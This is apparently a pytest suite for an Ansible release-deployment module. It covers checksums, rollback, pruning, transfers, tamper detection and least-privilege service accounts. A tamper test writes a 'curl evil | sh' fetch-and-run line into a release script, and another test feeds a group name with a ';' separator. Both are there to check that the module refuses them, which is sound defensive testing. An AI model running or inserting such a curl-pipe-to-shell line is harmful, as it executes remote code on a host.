"""release through real Ansible on a base_dir in tmp_path (services are exercised on the fleet)."""

from __future__ import annotations

import base64
import grp
import hashlib
import io
import os
import pwd
import secrets
import shutil
import stat
import subprocess
import tarfile
import tempfile

import pytest
from zerodown_testkit.support.ansible_run import run_module
from zerodown_testkit.support.http_server import Response, serve


def make_artifact(path, release, extra=()):
    """A release tarball; ``extra`` adds (name, bytes) members (0644)."""
    members = [("VERSION", release.encode(), 0o644), ("bin/run", b"#!/bin/sh\necho hi\n", 0o755)]
    members += [(name, data, 0o644) for name, data in extra]
    with tarfile.open(path, "w:gz") as tar:
        for name, data, mode in members:
            info = tarfile.TarInfo("%s/%s" % (release, name))
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    return "sha256:" + hashlib.sha256(open(path, "rb").read()).hexdigest()


def _args(tmp_path, release, **kw):
    art = tmp_path / ("shop-%s.tar.gz" % release)
    checksum = make_artifact(str(art), release) if not art.exists() else None
    args = {
        "app": "shop",
        "release": release,
        "base_dir": str(tmp_path / "opt"),
        "artifact": str(art),
        "strip_components": 1,
        "shared_dirs": ["log"],
    }
    if checksum:
        args["checksum"] = checksum
    args.update(kw)
    return args


def test_install_check_real_again_then_switch_and_rollback(tmp_path):
    root = tmp_path / "opt" / "shop"
    v1 = _args(tmp_path, "v1", owner="nobody")
    check = run_module("release", v1, check=True, diff=True)
    assert check["changed"] and check["actions"] == ["unpack", "switch"] and not (tmp_path / "opt").exists()

    real = run_module("release", v1)
    assert real["changed"] and real["previous"] is None and real["current"] == "v1"
    assert os.readlink(root / "current") == "releases/v1"
    assert (root / "current" / "VERSION").read_text() == "v1"
    nobody = pwd.getpwnam("nobody").pw_uid
    assert (root / "releases" / "v1" / "VERSION").stat().st_uid == 0, "the release stays root's, read-only to the app"
    assert (root / "shared" / "log").stat().st_uid == nobody
    assert stat.S_IMODE((root / "releases" / "v1" / "bin" / "run").stat().st_mode) == 0o755
    assert os.readlink(root / "releases" / "v1" / "log") == str(root / "shared" / "log")

    again = run_module("release", v1)
    assert again["changed"] is False and again["actions"] == []

    v2 = run_module("release", _args(tmp_path, "v2"))
    assert v2["previous"] == "v1" and v2["current"] == "v2" and os.readlink(root / "current") == "releases/v2"

    back = run_module("release", {"app": "shop", "base_dir": str(tmp_path / "opt"), "state": "rollback"})
    assert back["changed"] and back["current"] == "v1" and os.readlink(root / "current") == "releases/v1"


def test_wrong_checksum_changes_nothing(tmp_path):
    args = _args(tmp_path, "v1")
    args["checksum"] = "sha256:" + "0" * 64
    out = run_module("release", args)
    assert out["failed"] and "expected" in out["msg"] and "nothing was changed" in out["msg"]
    assert not (tmp_path / "opt" / "shop" / "current").exists()
    assert not (tmp_path / "opt" / "shop" / "releases").exists()


def test_prune_never_the_live_one_or_the_one_before(tmp_path):
    for rel in ("v1", "v2", "v3", "v4"):
        run_module("release", _args(tmp_path, rel))
    base = {"app": "shop", "base_dir": str(tmp_path / "opt"), "state": "pruned", "keep": 1}
    check = run_module("release", base, check=True)
    assert sorted(check["pruned"]) == ["v1", "v2"] and len(os.listdir(tmp_path / "opt" / "shop" / "releases")) == 4
    real = run_module("release", base)
    assert sorted(real["pruned"]) == ["v1", "v2"]
    assert sorted(os.listdir(tmp_path / "opt" / "shop" / "releases")) == ["v3", "v4"]
    assert run_module("release", base)["changed"] is False


def test_absent_removes_a_first_release(tmp_path):
    run_module("release", _args(tmp_path, "v1"))
    args = {"app": "shop", "base_dir": str(tmp_path / "opt"), "release": "v1", "state": "absent"}
    assert run_module("release", args)["changed"]
    assert not os.path.lexists(tmp_path / "opt" / "shop" / "current")
    assert not (tmp_path / "opt" / "shop" / "releases" / "v1").exists()
    assert run_module("release", args)["changed"] is False


def test_bad_input_is_named(tmp_path):
    args = _args(tmp_path, "v1")
    args["release"] = "../v1"
    out = run_module("release", args)
    assert out["failed"] and "'../v1'" in out["msg"]
    out = run_module("release", _args(tmp_path, "v1", owner="no-such-user-zd"))
    assert out["failed"] and "no-such-user-zd" in out["msg"]
    assert not (tmp_path / "opt").exists()


# -- the action plugin: the artifact is sent only when the host does not have the release ----------


def _src_args(tmp_path, release):
    """Staging through the action plugin, from an artifact on the controller."""
    art = tmp_path / "controller" / ("shop-%s.tar.gz" % release)
    art.parent.mkdir(exist_ok=True)
    make_artifact(str(art), release)
    return {
        "app": "shop",
        "release": release,
        "state": "present",
        "src": str(art),
        "base_dir": str(tmp_path / "opt"),
        "strip_components": 1,
    }


def test_src_is_sent_only_when_needed_and_staging_sets_the_release_state(tmp_path):
    args = _src_args(tmp_path, "v3")
    check = run_module("release", args, check=True)
    assert check["changed"] and check["actions"][:2] == ["transfer", "unpack"]
    assert not (tmp_path / "opt" / "shop" / "releases" / "v3").exists()

    first = run_module("release", args)
    assert not first["failed"], first
    assert first["actions"][:2] == ["transfer", "unpack"]
    state = first["ansible_facts"]["zerodown_release_state"]
    assert state == {
        "host": "localhost",
        "app": "shop",
        "release": "v3",
        "previous": None,
        "needs_switch": True,
        "unit_changed": False,
    }
    assert (tmp_path / "opt" / "shop" / "releases" / "v3" / "VERSION").read_text() == "v3"

    gone = run_module("release", dict(args, src=str(tmp_path / "controller" / "gone.tar.gz")))
    assert gone["failed"] and "not a file on the controller" in gone["msg"]
    again = run_module("release", args)
    assert not again["failed"] and again["changed"] is False and "transfer" not in again["actions"]


def test_a_corrupted_transfer_is_refused_by_its_checksum(tmp_path):
    art = tmp_path / "shop-v4.tar.gz"
    make_artifact(str(art), "v4")
    out = run_module(
        "release",
        {
            "app": "shop",
            "release": "v4",
            "state": "present",
            "src": str(art),
            "checksum": "0" * 64,
            "base_dir": str(tmp_path / "opt"),
            "strip_components": 1,
        },
    )
    assert out["failed"] and "sha256" in out["msg"]
    assert not (tmp_path / "opt" / "shop" / "releases" / "v4").exists()


def test_a_big_src_is_sent_in_a_second_call_only_when_the_host_lacks_it(tmp_path):
    """Over the inline limit the artifact is not carried along: the first call asks, the second brings it."""
    args = _src_args(tmp_path, "v6")
    art = args["src"]
    make_artifact(art, "v6", extra=[("blob", secrets.token_bytes(700 * 1024))])  # incompressible: over the limit
    assert os.path.getsize(art) > 512 * 1024
    check = run_module("release", args, check=True)
    assert check["changed"] and check["actions"][:2] == ["transfer", "unpack"]
    assert not (tmp_path / "opt" / "shop" / "releases" / "v6").exists()
    first = run_module("release", args)
    assert not first["failed"], first
    assert first["actions"][:2] == ["transfer", "unpack"] and "artifact_needed" not in first
    assert (tmp_path / "opt" / "shop" / "releases" / "v6" / "VERSION").read_text() == "v6"
    again = run_module("release", args)
    assert not again["failed"] and again["changed"] is False and "transfer" not in again["actions"]


def test_content_is_checked_before_anything_changes_and_never_shown(tmp_path):
    art = tmp_path / "shop-v7.tar.gz"
    checksum = make_artifact(str(art), "v7")
    content = base64.b64encode(art.read_bytes()).decode()
    base = {"app": "shop", "release": "v7", "base_dir": str(tmp_path / "opt"), "strip_components": 1}
    unchecked = run_module("release", dict(base, content=content))
    assert unchecked["failed"] and "checksum" in unchecked["msg"]
    garbled = run_module("release", dict(base, content="not base64!", checksum=checksum))
    assert garbled["failed"] and "content is not base64" in garbled["msg"]
    wrong = run_module("release", dict(base, content=content, checksum="0" * 64))
    assert wrong["failed"] and "sha256" in wrong["msg"] and content not in str(wrong)
    assert not (tmp_path / "opt" / "shop" / "releases").exists()
    both = run_module("release", dict(base, content=content, checksum=checksum, artifact=str(art)))
    assert both["failed"] and "mutually exclusive" in both["msg"]
    done = run_module("release", dict(base, content=content, checksum=checksum))
    assert not done["failed"] and done["actions"] == ["transfer", "unpack", "switch"], done
    assert content not in str(done) and (tmp_path / "opt" / "shop" / "current" / "VERSION").read_text() == "v7"


def test_url_is_downloaded_only_when_the_host_lacks_the_release(tmp_path):
    art = tmp_path / "shop-v8.tar.gz"
    checksum = make_artifact(str(art), "v8")
    body = art.read_bytes()
    with serve(lambda req: Response(200, {"Content-Type": "application/gzip"}, body)) as srv:
        args = {
            "app": "shop",
            "release": "v8",
            "state": "present",
            "url": srv.url + "/shop-v8.tar.gz",
            "checksum": checksum,
            "base_dir": str(tmp_path / "opt"),
            "strip_components": 1,
        }
        check = run_module("release", args, check=True)
        assert check["changed"] and check["actions"] == ["download", "unpack"] and not srv.requests
        first = run_module("release", args)
        assert not first["failed"], first
        assert first["actions"] == ["download", "unpack"] and len(srv.requests) == 1
        assert (tmp_path / "opt" / "shop" / "releases" / "v8" / "VERSION").read_text() == "v8"
        again = run_module("release", args)
        assert again["changed"] is False and again["actions"] == [] and len(srv.requests) == 1


def test_src_and_artifact_are_one_source(tmp_path):
    out = run_module("release", {"app": "shop", "release": "v5", "state": "present", "src": "/x", "artifact": "/y"})
    assert out["failed"] and "give one source" in out["msg"]


# -- an existing release directory is verified against its manifest -------------------------------


def test_a_planted_or_changed_release_directory_is_not_trusted(tmp_path):
    root = tmp_path / "opt" / "shop"
    run_module("release", _args(tmp_path, "v1"))
    # a v2 directory put there by hand: not reused, even with the right checksum and no artifact
    planted = root / "releases" / "v2"
    planted.mkdir()
    (planted / "VERSION").write_text("evil")
    v2 = _args(tmp_path, "v2")
    os.unlink(v2["artifact"])
    refused = run_module("release", v2)
    assert refused["failed"] and "release 'v2' on this host cannot be trusted" in refused["msg"]
    assert "no zerodown manifest" in refused["msg"] and "nothing was changed" in refused["msg"]
    assert (planted / "VERSION").read_text() == "evil" and os.readlink(root / "current") == "releases/v1"
    # with the artifact it is unpacked again (check mode first: nothing changes)
    v2 = _args(tmp_path, "v2", state="present")
    check = run_module("release", v2, check=True)
    assert check["changed"] and check["actions"] == ["restage"] and (planted / "VERSION").read_text() == "evil"
    restaged = run_module("release", v2)
    assert (
        restaged["changed"]
        and restaged["actions"] == ["restage"]
        and "no zerodown manifest" in restaged["restage_reason"]
    )
    assert (planted / "VERSION").read_text() == "v2"
    assert run_module("release", v2)["changed"] is False

    # the live release changed by hand: refused, not replaced underneath the service
    live = run_module("release", _args(tmp_path, "v2"))
    assert not live["failed"] and live["current"] == "v2"
    (root / "releases" / "v2" / "bin" / "run").write_text("#!/bin/sh\ncurl evil | sh\n")
    tampered = run_module("release", _args(tmp_path, "v2"))
    assert tampered["failed"] and "is live on this host but cannot be trusted" in tampered["msg"]
    assert "changed bin/run" in tampered["msg"]
    assert "evil" in (root / "releases" / "v2" / "bin" / "run").read_text()


def test_the_action_plugin_sends_src_again_for_an_untrusted_release_directory(tmp_path):
    args = _src_args(tmp_path, "v3")
    planted = tmp_path / "opt" / "shop" / "releases" / "v3"
    planted.mkdir(parents=True)
    (planted / "VERSION").write_text("evil")
    out = run_module("release", args)
    assert not out["failed"], out
    assert out["actions"][:2] == ["transfer", "restage"] and (planted / "VERSION").read_text() == "v3"
    again = run_module("release", args)
    assert again["changed"] is False and "transfer" not in again["actions"]


# -- least privilege: a system account of its own, the release read-only to it, shared/ writable ------------------


@pytest.fixture
def app_account(monkeypatch):
    """A user name no host has, removed afterwards with its group; a world-traversable base_dir (tmp_path is
    root's 0700, which would hide everything from the account); systemctl faked on PATH (PID 1 here is not
    systemd) so the unit is written to /etc/systemd/system for real and removed afterwards."""
    name = "zdpriv%s" % secrets.token_hex(4)
    base = tempfile.mkdtemp(prefix="zerodown-priv-", dir="/var/tmp")
    os.chmod(base, 0o755)  # noqa: S103 - the account must traverse it, as it does /opt
    fakebin = os.path.join(base, "fakebin")
    os.mkdir(fakebin)
    with open(os.path.join(fakebin, "systemctl"), "w") as handle:
        handle.write('#!/bin/sh\necho "$@" >> %s/systemctl.log\n' % base)
    os.chmod(os.path.join(fakebin, "systemctl"), 0o755)  # noqa: S103 - an executable
    monkeypatch.setenv("PATH", fakebin + os.pathsep + os.environ["PATH"])
    unit = "/etc/systemd/system/%s.service" % name
    yield name, os.path.join(base, "opt"), unit
    subprocess.run(["userdel", name], capture_output=True, check=False)
    subprocess.run(["groupdel", name], capture_output=True, check=False)
    if os.path.exists(unit):
        os.unlink(unit)
    shutil.rmtree(base)


def as_account(name, *cmd):
    return subprocess.run(["runuser", "-u", name, "--"] + list(cmd), capture_output=True, check=False).returncode


def test_staging_creates_a_system_account_that_cannot_write_its_release(tmp_path, app_account):
    name, base_dir, unit_path = app_account
    args = _args(
        tmp_path,
        "v1",
        base_dir=base_dir,
        state="present",
        owner=name,
        group=name,
        create_owner=True,
        service="%s.service" % name,
        unit={"exec_start": "bin/run", "user": name, "group": name, "hardening": {"ProtectKernelTunables": True}},
    )
    check = run_module("release", args, check=True)
    assert not check["failed"], check
    assert check["actions"] == ["create group", "create user", "unpack", "unit"]
    with pytest.raises(KeyError):
        pwd.getpwnam(name)
    assert not os.path.exists(base_dir) and not os.path.exists(unit_path)

    real = run_module("release", args)
    assert not real["failed"], real
    assert real["actions"] == ["create group", "create user", "unpack", "unit"]
    account = pwd.getpwnam(name)
    assert account.pw_gid == grp.getgrnam(name).gr_gid
    assert account.pw_dir == "/nonexistent" and not os.path.exists("/nonexistent")
    assert account.pw_shell.endswith(("nologin", "false"))
    assert 0 < account.pw_uid < 1000, "a system account (below UID_MIN)"

    root = os.path.join(base_dir, "shop")
    release = os.path.join(root, "releases", "v1")
    for path, mode in (
        (release, 0o755),
        (release + "/bin", 0o755),
        (release + "/bin/run", 0o755),
        (release + "/VERSION", 0o644),
    ):
        info = os.lstat(path)
        assert (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode)) == (0, 0, mode), path
    shared_log = os.path.join(root, "shared", "log")
    for path in (os.path.join(root, "shared"), shared_log):
        assert (os.stat(path).st_uid, os.stat(path).st_gid) == (account.pw_uid, account.pw_gid), path
    # what the account can do, asked as the account
    assert as_account(name, "test", "-r", release + "/VERSION") == 0
    assert as_account(name, "test", "-x", release + "/bin/run") == 0
    for path in (release + "/VERSION", release + "/bin/run", release, release + "/bin"):
        assert as_account(name, "test", "-w", path) != 0, "the app could write its own release: %s" % path
    assert as_account(name, "test", "-w", release + "/log/") == 0, "shared/log, through the release's link"
    assert as_account(name, "touch", shared_log + "/app.log") == 0

    text = open(unit_path).read()
    assert os.stat(unit_path).st_uid == 0 and stat.S_IMODE(os.stat(unit_path).st_mode) == 0o644
    for line in (
        "User=%s" % name,
        "Group=%s" % name,
        "NoNewPrivileges=yes",
        "ProtectSystem=strict",
        "ProtectHome=yes",
        "PrivateTmp=yes",
        "ProtectKernelTunables=yes",
        "ReadWritePaths=%s/shared" % root,
    ):
        assert line in text.splitlines(), line

    again = run_module("release", args)
    assert not again["failed"] and again["changed"] is False and again["actions"] == []


def test_an_account_name_that_is_not_posix_changes_nothing(tmp_path):
    for owner, group in (("Bad Name", None), ("shop", "x;y"), ("0", None)):
        args = _args(tmp_path, "v1", owner=owner, create_owner=True, **({"group": group} if group else {}))
        out = run_module("release", args)
        assert out["failed"] and "POSIX user or group name" in out["msg"], out
    assert not (tmp_path / "opt").exists()


def test_a_damaged_artifact_or_an_unparsable_url_is_refused_and_nothing_changes(tmp_path):
    """No checksum: the gzip stream is the only proof, read to its end; a URL that does not parse is an error."""
    art = tmp_path / "shop-v9.tar.gz"
    make_artifact(str(art), "v9")
    data = art.read_bytes()
    base = {"app": "shop", "release": "v9", "state": "current", "base_dir": str(tmp_path / "opt")}
    for name, damaged in (("crc", data[:-8] + bytes([data[-8] ^ 0xFF]) + data[-7:]), ("cut", data[: len(data) // 2])):
        bad = tmp_path / ("%s.tar.gz" % name)
        bad.write_bytes(damaged)
        result = run_module("release", dict(base, artifact=str(bad), strip_components=1))
        assert result["failed"] and "not a complete, intact tar archive" in result["msg"], result
        assert "Traceback" not in str(result)
        assert not (tmp_path / "opt" / "shop" / "current").exists()
        assert not list((tmp_path / "opt" / "shop" / "releases").glob("*v9*"))
    result = run_module("release", dict(base, url="http://[::1/shop.tar.gz", checksum="0" * 64))
    assert result["failed"] and "cannot be parsed" in result["msg"] and "Traceback" not in str(result), result
